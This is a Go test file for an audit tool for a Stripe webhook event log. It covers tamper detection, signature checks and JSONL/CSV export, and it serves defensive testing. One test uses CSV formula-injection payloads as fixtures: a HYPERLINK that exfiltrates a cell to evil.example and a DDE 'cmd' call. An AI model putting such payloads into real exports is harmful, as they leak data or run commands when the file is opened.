package audit_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stripe/stripe-go/v76/webhook"

	"github.com/stripe-ledger/stripe-ledger/eventlog"
	"github.com/stripe-ledger/stripe-ledger/eventlog/audit"
	"github.com/stripe-ledger/stripe-ledger/eventlog/postgres"
	"github.com/stripe-ledger/stripe-ledger/internal/eventlogtest"
	"github.com/stripe-ledger/stripe-ledger/internal/pgtest"
)

func TestMain(m *testing.M) { os.Exit(pgtest.Main(m)) }

const secret = "whsec_audit_test"

// seed appends events, signed with secret as Stripe would, to three streams
// of five on a fresh database and returns the log, the pool and each
// stream's records.
func seed(t *testing.T) (eventlog.Log, *pgxpool.Pool, [][]eventlog.Record) {
	t.Helper()
	ctx := context.Background()
	pool, _ := pgtest.NewPool(t)
	l := postgres.New(pool, nil)
	var streams [][]eventlog.Record
	for range 3 {
		stream := eventlogtest.NewStream("audit")
		for range 5 {
			e := eventlogtest.NewEvent(stream)
			e.Signature = webhook.GenerateTestSignedPayload(&webhook.UnsignedPayload{
				Payload: e.Payload, Secret: secret, Timestamp: time.Now().Add(-24 * time.Hour),
			}).Header
			if _, err := l.Append(ctx, e); err != nil {
				t.Fatal(err)
			}
		}
		recs, err := l.ReadStream(ctx, stream, 0, 100)
		if err != nil {
			t.Fatal(err)
		}
		streams = append(streams, recs)
	}
	return l, pool, streams
}

func TestVerifyUntouchedLog(t *testing.T) {
	t.Parallel()
	l, _, streams := seed(t)
	var calls []int64
	report, err := audit.Verify(context.Background(), l, audit.Options{Secrets: []string{"whsec_old", secret}, Progress: func(done int64) { calls = append(calls, done) }})
	if err != nil {
		t.Fatal(err)
	}
	if !report.OK() || report.Streams != 3 || report.Events != 15 || !report.SignaturesTested {
		t.Fatalf("report = %+v, want 3 streams, 15 events, no problems", report)
	}
	if len(calls) == 0 || calls[len(calls)-1] != 15 {
		t.Errorf("progress calls = %v, want the last to be 15", calls)
	}
	report, err = audit.Verify(context.Background(), l, audit.Options{Streams: []string{streams[1][0].Stream}})
	if err != nil || !report.OK() || report.Streams != 1 || report.Events != 5 || report.SignaturesTested {
		t.Fatalf("one stream, no secrets: %+v, %v", report, err)
	}
}

// TestVerifyFindsTampering edits the events table behind the log's back, as
// someone with database access could, and expects Verify to name the event
// that gives it away, reading the whole log and reading the one stream.
func TestVerifyFindsTampering(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name   string
		tamper string // SQL; $1 is the event id of version 2 of the second stream
		blame  int    // the version of the event the first problem must name
		what   string
	}{
		{"payload byte changed", `UPDATE events SET payload = overlay(payload PLACING '\x58'::bytea FROM 12 FOR 1) WHERE event_id = $1`,
			2, "payload was altered"},
		{"row deleted from the middle", `DELETE FROM events WHERE event_id = $1`,
			3, "1 earlier record(s) of the stream are missing"},
		{"hash changed", `UPDATE events SET hash = sha256('forged') WHERE event_id = $1`,
			2, "is not sha256(prev_hash || payload_sha256)"},
		{"payload and its digests rewritten consistently", `UPDATE events SET payload = convert_to('{"forged":true}', 'UTF8'),
			payload_sha256 = sha256(convert_to('{"forged":true}', 'UTF8')),
			hash = sha256(prev_hash || sha256(convert_to('{"forged":true}', 'UTF8'))) WHERE event_id = $1`,
			2, "the payload is not a Stripe event"},
		{"type column changed", `UPDATE events SET type = 'customer.subscription.deleted' WHERE event_id = $1`,
			2, `type is "customer.subscription.deleted" but the payload says`},
		{"created column changed", `UPDATE events SET created = created - interval '1 day' WHERE event_id = $1`,
			2, "created is"},
		{"signature from another secret", `UPDATE events SET signature = $2 WHERE event_id = $1`,
			2, "Stripe-Signature matches the stored payload under none"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ctx := context.Background()
			l, pool, streams := seed(t)
			target := streams[1][2]
			args := []any{target.ID}
			if strings.Contains(tc.tamper, "$2") {
				args = append(args, webhook.GenerateTestSignedPayload(&webhook.UnsignedPayload{
					Payload: target.Payload, Secret: "whsec_attacker", Timestamp: time.Now(),
				}).Header)
			}
			pgtest.AsSuperuser(t, pool, tc.tamper, args...)
			blamed := streams[1][tc.blame]
			for _, scope := range [][]string{nil, {target.Stream}} {
				report, err := audit.Verify(ctx, l, audit.Options{Streams: scope, Secrets: []string{secret}})
				if err != nil {
					t.Fatal(err)
				}
				if report.OK() {
					t.Fatalf("scope %v: no problem found", scope)
				}
				p := report.Problems[0]
				if p.EventID != blamed.ID || p.Stream != blamed.Stream || p.StreamVersion != int64(tc.blame) || !strings.Contains(p.What, tc.what) {
					t.Errorf("scope %v: first problem = %v, want event %s at version %d: %q", scope, p, blamed.ID, tc.blame, tc.what)
				}
				for _, p := range report.Problems {
					if p.Stream != target.Stream {
						t.Errorf("scope %v: problem outside the tampered stream: %v", scope, p)
					}
				}
			}
		})
	}
}

// record returns a stored-looking record with the given payload.
func record(payload string) eventlog.Record {
	e := eventlogtest.NewEvent(eventlogtest.NewStream("export"))
	e.Payload = []byte(payload)
	return eventlog.Record{Event: e, StreamVersion: 4, ReceivedAt: time.Now(), PayloadSHA256: []byte{1}, PrevHash: []byte{2}, Hash: []byte{3}}
}

// Stripe's bodies are pretty-printed; the exports must give back the exact bytes.
var payloads = []string{
	"{\n  \"id\": \"evt_1\",\r\n\t\"object\": \"event\", \"x\": \"<café & ✓>\"  }\n",
	`{"compact":true}`,
	"{\"bad_utf8\": \"\xff\xfe\"}",
}

func TestJSONLRoundTripsPayloads(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := audit.NewJSONLWriter(&buf)
	for _, p := range payloads {
		if err := w.Write(record(p)); err != nil {
			t.Fatal(err)
		}
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != len(payloads) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(payloads), buf.String())
	}
	for i, line := range lines {
		var got struct {
			Payload       *string `json:"payload"`
			PayloadBase64 string  `json:"payload_base64"`
			Hash          string  `json:"hash"`
			StreamVersion int64   `json:"stream_version"`
		}
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		raw := []byte(nil)
		if got.Payload != nil {
			raw = []byte(*got.Payload)
		} else {
			raw, _ = base64.StdEncoding.DecodeString(got.PayloadBase64)
		}
		if string(raw) != payloads[i] || got.Hash != "03" || got.StreamVersion != 4 {
			t.Errorf("line %d decodes to %q (hash %s, version %d), want %q", i, raw, got.Hash, got.StreamVersion, payloads[i])
		}
	}
}

func TestAppendJSONEmbedsPayloadVerbatim(t *testing.T) {
	t.Parallel()
	for _, p := range payloads[:2] {
		doc, err := audit.AppendJSON(nil, record(p))
		if err != nil {
			t.Fatal(err)
		}
		var got struct{ Payload json.RawMessage }
		if !json.Valid(doc) || json.Unmarshal(doc, &got) != nil || !bytes.HasSuffix(doc, []byte(`"payload":`+p+`}`)) {
			t.Errorf("AppendJSON = %s, want the payload %q verbatim", doc, p)
		}
	}
	doc, _ := audit.AppendJSON(nil, record("not json {"))
	if !json.Valid(doc) {
		t.Errorf("an invalid stored payload breaks the document: %s", doc)
	}
}

func TestCSVWriter(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := audit.NewCSVWriter(&buf)
	if err := w.Write(record(payloads[1])); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 2 || strings.Join(rows[0], ",") != strings.Join(audit.CSVHeader, ",") ||
		rows[1][len(rows[1])-1] != payloads[1] || rows[1][6] != "4" {
		t.Fatalf("CSV = %q, %v", rows, err)
	}
	buf.Reset()
	if err := audit.NewCSVWriter(&buf).Flush(); err != nil || buf.String() != strings.Join(audit.CSVHeader, ",")+"\n" {
		t.Errorf("empty CSV = %q, %v; want the header alone", buf.String(), err)
	}
}

// TestCSVWriterNeutralizesFormulas writes cells a spreadsheet would run as
// formulas: each must come out behind a single quote, which dropping gives the
// stored value back, while ordinary cells and payloads stay exact.
func TestCSVWriterNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	r := record(`=HYPERLINK("http://evil.example/?"&A1,"click")`)
	r.ID, r.Stream, r.Type, r.APIVersion = "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1"
	quoted := record("'already quoted")
	quoted.Type = "\r=2"
	plain := record(payloads[1])
	var buf bytes.Buffer
	w := audit.NewCSVWriter(&buf)
	for _, rec := range []eventlog.Record{r, quoted, plain} {
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("CSV = %q, %v; want a header and 3 rows", rows, err)
	}
	for i, want := range [][]string{
		{0: r.ID, 1: r.Stream, 2: r.Type, 3: r.APIVersion, 11: string(r.Payload)},
		{2: quoted.Type, 11: string(quoted.Payload)},
	} {
		for col, stored := range want {
			if stored == "" {
				continue
			}
			if got := rows[i+1][col]; got != "'"+stored {
				t.Errorf("row %d %s = %q, want %q behind a single quote", i+1, audit.CSVHeader[col], got, stored)
			}
		}
	}
	if got := rows[3]; got[0] != plain.ID || got[11] != payloads[1] {
		t.Errorf("an ordinary row changed: %q", got)
	}
}

// TestReadStreamsBeforePagesNewestFirst interleaves three streams of
// different lengths (one empty) and pages them newest first at several page
// sizes: the pages, oldest page last, must be the merged history reversed.
func TestReadStreamsBeforePagesNewestFirst(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	pool, _ := pgtest.NewPool(t)
	l := postgres.New(pool, nil)
	streams := []string{eventlogtest.NewStream("page"), eventlogtest.NewStream("page"), eventlogtest.NewStream("page"), eventlogtest.NewStream("page")}
	for i := range 23 {
		if _, err := l.Append(ctx, eventlogtest.NewEvent(streams[[]int{0, 0, 1, 2, 0, 1}[i%6]])); err != nil {
			t.Fatal(err)
		}
	}
	var all []string
	if err := audit.EachInStreams(ctx, l, streams, eventlog.Start, 7, func(b []eventlog.Record) error {
		for _, r := range b {
			all = append(all, r.ID)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	for _, limit := range []int{1, 4, 5, 22, 23, 100} {
		var got []string
		var before *eventlog.Position
		for pages := 0; ; pages++ {
			recs, total, err := audit.ReadStreamsBefore(ctx, l, streams, before, limit)
			if err != nil {
				t.Fatal(err)
			}
			if total != 23 || len(recs) > limit || pages > 30 {
				t.Fatalf("limit %d: page of %d, total %d", limit, len(recs), total)
			}
			if len(recs) == 0 {
				break
			}
			for i := len(recs) - 1; i >= 0; i-- {
				got = append(got, recs[i].ID)
			}
			p := recs[0].Position
			before = &p
		}
		slices.Reverse(got)
		if !slices.Equal(got, all) {
			t.Errorf("limit %d: pages newest first, reversed, are\n%v\nwant the history\n%v", limit, got, all)
		}
	}
}
